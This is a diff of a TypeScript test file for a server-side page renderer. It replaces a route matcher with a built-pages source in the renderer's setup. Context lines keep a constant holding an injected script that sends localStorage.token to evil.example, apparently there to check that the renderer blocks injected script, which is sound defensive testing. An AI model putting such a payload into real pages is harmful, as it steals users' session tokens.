@@ -12,7 +12,7 @@ import { expect, test } from "vitest";
 import type { GuestApp } from "../../app-context.ts";
 import * as entry from "../../entry.server.tsx";
 import { AppError } from "../../kit/api/app-error.ts";
-import { createPageMatcher } from "./match-page.ts";
+import { builtPages } from "./page-source.ts";
 import { createPageRenderer, hashOf } from "./render-page.ts";
 
 const injected = "fetch('//evil.example/' + localStorage.token)";
@@ -78,8 +78,7 @@ function renderOnce(loader: () => unknown, address = "/") {
   const logged: object[] = [];
   const build = buildOf(loader);
   const renderer = createPageRenderer({
-    build,
-    match: createPageMatcher(build.routes),
+    pages: builtPages(build),
     guestApp: {} as GuestApp,
     origin: "https://site.test",
     ownScripts: [own],
